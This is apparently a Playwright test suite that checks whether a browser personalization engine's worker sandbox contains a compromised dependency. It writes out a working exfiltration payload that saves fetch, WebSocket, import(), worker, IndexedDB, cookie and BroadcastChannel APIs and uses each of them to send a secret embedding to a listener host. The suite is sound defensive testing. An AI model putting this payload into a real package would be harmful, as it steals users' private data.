/**
 * A compromised dependency: script in the engine's own file, which runs from its birth on, keeps what it can, and tries every way out when
 * the personal data is there. A real server, another tab and the next visit must see nothing of it.
 */
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { type BrowserContext, expect, type Page, test, type Worker } from '@playwright/test';
import type { Personalizer } from '../src/index.ts';
import { enginePolicy } from '../src/worker/content-policy.ts';
import type { Harness } from './harness/harness.ts';
import { DEMO_URL, HARNESS_URL } from './ports.ts';
import { type Listener, startListener, startTamperedSite, type TamperedSite } from './tampered-site.ts';

declare const harness: Harness;

const SECRET = 'the-secret-embedding';

let site: TamperedSite;
let listener: Listener;
test.use({ serviceWorkers: 'block' });
test.beforeAll(async () => {
  site = await startTamperedSite();
  listener = await startListener();
});
test.afterAll(async () => {
  await site[Symbol.asyncDispose]();
  await listener[Symbol.asyncDispose]();
});
test.beforeEach(() => {
  listener.heard.length = 0;
  site.script = '';
});

const engineOf = (page: Page): Worker =>
  page.workers().find((worker) => worker.url().startsWith('blob:') && !worker.url().includes('#'))!;

/** The demo with an engine tampered with, up and ready. */
async function open(page: Page, script: string, device = 'wasm'): Promise<Worker> {
  site.script = script;
  await page.goto(`${site.url}/?device=${device}&maxTokens=8`);
  await expect(page.getByTestId('privacy')).toBeVisible();
  await expect(page.getByTestId('privacy')).toContainText('none is open');
  return engineOf(page);
}

/** Keeps what it finds and spoils what a gate might use; then, on command, tries every way with the secret in hand. */
const attackFrom = (url: string) => `
  const grab = (get) => { try { return get(); } catch {} };
  const names = ['fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'WebTransport', 'importScripts', 'FontFace', 'Worker', 'SharedWorker',
    'BroadcastChannel', 'indexedDB', 'caches', 'cookieStore', 'webkitRequestFileSystem', 'IDBFactory', 'CacheStorage', 'StorageManager', 'LockManager'];
  const kept = Object.fromEntries(names.map((name) => [name, grab(() => globalThis[name])]));
  for (const name of ['storage', 'locks', 'storageBuckets', 'serviceWorker']) kept[name] = grab(() => navigator[name]);
  Reflect.defineProperty = () => true;
  Reflect.apply = new Proxy(Reflect.apply, {});
  Promise.prototype.then = new Proxy(Promise.prototype.then, {});
  globalThis.attack = async (secret) => {
    const outcome = {};
    const url = '${url}/?' + secret;
    const attempt = async (name, work) => {
      try { outcome[name] = 'OUT ' + String(await Promise.race([work(), new Promise((r) => setTimeout(r, 1500, 'nothing came of it'))])).slice(0, 60); }
      catch (error) { outcome[name] = 'shut: ' + (error && (error.code || error.name) || error); }
    };
    const opened = (request) => new Promise((y, n) => { request.onsuccess = () => y('opened'); request.onerror = () => n(request.error); });
    const blobWorker = (text) => new Promise((y, n) => {
      const worker = new kept.Worker(URL.createObjectURL(new Blob([text])));
      worker.onmessage = ({ data }) => String(data).startsWith('no') ? n(new Error(data)) : y(data);
      worker.onerror = () => n(new Error('error'));
      setTimeout(() => n(new Error('no answer')), 1200);
    });
    await attempt('fetch', () => kept.fetch(url));
    await attempt('fetch without cors', () => kept.fetch(url, { mode: 'no-cors' }));
    await attempt('fetch, kept alive', () => kept.fetch(url, { mode: 'no-cors', keepalive: true, method: 'POST', body: secret }));
    await attempt('XMLHttpRequest', () => new Promise((y, n) => { const x = new kept.XMLHttpRequest(); x.onload = y; x.onerror = () => n(new Error('error')); x.open('GET', url); x.send(); }));
    await attempt('WebSocket', () => new Promise((y, n) => { const s = new kept.WebSocket(url.replace('http', 'ws')); s.onopen = y; s.onerror = () => n(new Error('error')); }));
    await attempt('EventSource', () => new Promise((y, n) => { const s = new kept.EventSource(url); s.onopen = y; s.onerror = () => n(new Error('error')); }));
    await attempt('WebTransport', () => new kept.WebTransport(url.replace('http:', 'https:')).ready);
    await attempt('importScripts', () => kept.importScripts(url));
    await attempt('import()', () => import(url));
    await attempt('import() of JSON', () => import(url + '.json', { with: { type: 'json' } }));
    await attempt('import() of text', () => import(url, { with: { type: 'text' } }));
    await attempt('import() of a style', () => import(url, { with: { type: 'css' } }));
    await attempt('FontFace', () => new kept.FontFace('x', 'url(' + url + ')').load());
    await attempt('Worker', () => new Promise((y, n) => { const w = new kept.Worker(url); w.onmessage = y; w.onerror = () => n(new Error('error')); }));
    await attempt('a worker of a blob that fetches', () => blobWorker('fetch("' + url + '").then(() => postMessage("sent"), (e) => postMessage("no " + e.name))'));
    await attempt('a worker of a blob that stores', () => blobWorker('try { const r = indexedDB.open("loot"); r.onsuccess = () => postMessage("stored"); r.onerror = () => postMessage("no"); } catch (e) { postMessage("no " + e.name); }'));
    await attempt('SharedWorker', () => new kept.SharedWorker(url));
    await attempt('indexedDB', () => opened(kept.indexedDB.open('loot ' + secret)));
    await attempt('IDBFactory', () => opened(IDBFactory.prototype.open.call(kept.indexedDB, 'loot')));
    await attempt('the vault', () => opened(kept.indexedDB.open('e2p-vault-default')));
    await attempt('caches', () => kept.caches.open('loot'));
    await attempt('OPFS', async () => { const root = await kept.storage.getDirectory(); return root.getFileHandle('loot', { create: true }); });
    await attempt('the files of the app in OPFS', () => StorageManager.prototype.getDirectory.call(kept.storage));
    await attempt('a bucket', () => kept.storageBuckets.open('loot'));
    await attempt('a lock', () => kept.locks.request('loot', () => 'held'));
    await attempt('cookieStore', () => kept.cookieStore.set('loot', secret));
    await attempt('a file system of old', () => new Promise((y, n) => kept.webkitRequestFileSystem(0, 1024, y, n)));
    await attempt('BroadcastChannel', () => new kept.BroadcastChannel('loot').postMessage(secret));
    return outcome;
  };`;

/** Whatever the origin keeps, by name, and what another tab hears. */
const stored = (page: Page) =>
  page.evaluate(async () => {
    const files: string[] = [];
    for await (const name of (
      (await navigator.storage.getDirectory()) as unknown as { keys(): AsyncIterable<string> }
    ).keys())
      files.push(name);
    return {
      databases: (await indexedDB.databases()).map(({ name }) => name).sort(),
      caches: await caches.keys(),
      files,
      cookies: document.cookie,
    };
  });

async function listenAround(context: BrowserContext): Promise<Page> {
  const other = await context.newPage();
  await other.goto(`${site.url}/world/demo.json`);
  await other.evaluate(() => {
    const said: unknown[] = [];
    Object.assign(globalThis, { said });
    new BroadcastChannel('loot').onmessage = ({ data }) => said.push(data);
  });
  return other;
}

for (const [device, place] of [
  ['wasm', 'an origin of its own'],
  ['webgpu', "the page's origin"],
] as const) {
  test(`script in the engine, born in ${place}: nothing arrives, is kept, or is heard, on this visit and on the next`, async ({
    page,
    context,
  }) => {
    const other = await listenAround(context);
    const worker = await open(page, attackFrom(listener.url), device);
    await page.getByTestId('write').click();
    await expect(page.getByTestId('stats-personal')).toHaveText(/\d+ tokens/, { timeout: 120_000 });
    const before = await stored(other);
    const outcome = await worker.evaluate(
      (secret) => (globalThis as unknown as { attack(s: string): Promise<object> }).attack(secret),
      SECRET,
    );
    const out = Object.entries(outcome).filter(([, result]) => !String(result).startsWith('shut'));
    // In an origin of its own a channel reaches nobody, and neither does anything that came of it.
    expect(out.map(([name]) => name)).toEqual([]);
    expect(Object.keys(outcome).length).toBeGreaterThan(27);
    await page.waitForTimeout(500);
    expect(listener.heard).toEqual([]);
    expect(await stored(other)).toEqual(before);
    expect(before).toEqual({ databases: ['e2p-weights'], caches: [], files: ['e2p-weights'], cookies: '' });
    expect(await other.evaluate(() => (globalThis as unknown as { said: unknown[] }).said)).toEqual([]);
    // And the engine still works.
    await page.getByTestId('write').click();
    await expect(page.getByTestId('stats-personal')).toHaveText(/\d+ tokens/, { timeout: 120_000 });
    await page.close();
    const next = await context.newPage();
    await open(next, `try { fetch('${listener.url}/next') } catch {}`);
    await next.waitForTimeout(500);
    expect(listener.heard).toEqual([]);
    expect(await stored(next)).toEqual(before);
  });
}

test('the listener listens: script on the page is heard', async ({ page }) => {
  await page.goto(HARNESS_URL);
  await page.evaluate((url) => fetch(url, { mode: 'no-cors' }), `${listener.url}/page`);
  expect(listener.heard).toEqual(['GET /page']);
});

test('a policy of the page that has reports sent is told', async ({ page }) => {
  site.policy = (own) => `${own}; report-uri ${listener.url}/report`;
  await page.goto(`${site.url}/?device=wasm&maxTokens=8`);
  await expect(page.getByTestId('privacy')).toContainText('reports of the policy is open');
  site.policy = (own) => own;
});

test('a policy of the page that forbids the frame is told, with what it has to allow', async ({ page }) => {
  site.policy = (own) => own.replace(/ 'sha256-[^']*'/, '');
  await page.goto(`${site.url}/?device=wasm`);
  await expect(page.getByTestId('error')).toContainText(
    /script-src 'sha256-[^']+' 'wasm-unsafe-eval'; worker-src blob:/,
  );
  site.policy = (own) => own.replace(' blob:', '');
  await page.goto(`${site.url}/?device=wasm`);
  await expect(page.getByTestId('error')).toContainText(/the engine worker stopped/);
  site.policy = (own) => own;
});

test('helper threads come up beside the engine, and have no way out either', async ({ page }) => {
  // They sleep between their work and can't be asked, so what is tried stands in their script.
  const worker = await open(
    page,
    `
      for (const exit of [() => fetch('${listener.url}/' + name), () => new WebSocket('${listener.url.replace('http', 'ws')}/socket'),
        () => import('${listener.url}/module'), () => new EventSource('${listener.url}/events')]) {
        try { Promise.resolve(exit()).catch(() => undefined); } catch {}
      }
      // More cores than this machine may have.
      Object.defineProperty(navigator, 'hardwareConcurrency', { get: () => 4 });`,
  );
  expect(page.workers().filter((each) => each !== worker && each.url().startsWith('blob:'))).toHaveLength(1);
  await page.getByTestId('write').click();
  await expect(page.getByTestId('stats-personal')).toHaveText(/\d+ tokens/);
  expect(listener.heard).toEqual([]);
});

for (const [headers, open] of [
  [{ 'content-security-policy': enginePolicy() }, []],
  [{}, ['import()']],
] as const) {
  const with_ = open.length === 0 ? 'with the policy that e2p csp prints' : 'without a policy';
  test(`the engine from an address of the app's own, ${with_}: it works, and the report says what is open`, async ({
    page,
  }) => {
    const text = readFileSync(fileURLToPath(new URL('../sealed/engine.js', import.meta.url)), 'utf8');
    await page.route(`${HARNESS_URL}/engine.js`, (route) =>
      route.fulfill({ body: text, contentType: 'text/javascript', headers }),
    );
    await page.goto(HARNESS_URL);
    await page.waitForFunction(() => 'harness' in globalThis);
    const outcome = await page.evaluate(async (model) => {
      const personalizer: Personalizer = await harness.Personalizer.create({
        ...{ model, device: 'wasm', engine: '/engine.js' },
      });
      const session = await personalizer.createSession();
      const written = await session.prompt('Story: pocket drone', { maxTokens: 4 });
      const { exits } = personalizer.privacy;
      const found = exits.filter(({ state }) => state === 'open').map(({ name }) => name);
      return { written, found, fetch: exits.find(({ name }) => name === 'fetch')!.by };
    }, `${DEMO_URL}/models/e2p-tiny`);
    expect(outcome).toEqual({
      written: expect.stringMatching(/\w/),
      found: open,
      fetch: open.length === 0 ? 'policy' : 'script',
    });
  });
}
